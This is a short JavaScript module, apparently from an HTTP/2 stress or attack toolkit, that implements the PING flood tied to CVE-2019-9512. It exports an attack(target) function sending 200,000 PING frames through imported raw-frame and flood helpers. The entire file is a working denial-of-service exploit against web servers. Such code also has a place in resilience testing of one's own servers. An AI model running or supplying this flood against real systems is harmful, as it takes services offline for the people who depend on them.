// CVE-2019-9512: each PING wants an acknowledgement.
import { ping } from "../../raw/frames.mjs";
import { flood } from "../flood.mjs";

export const name = "PING flood";

export function attack(target) {
  return flood(target, 200_000, () => ping());
}
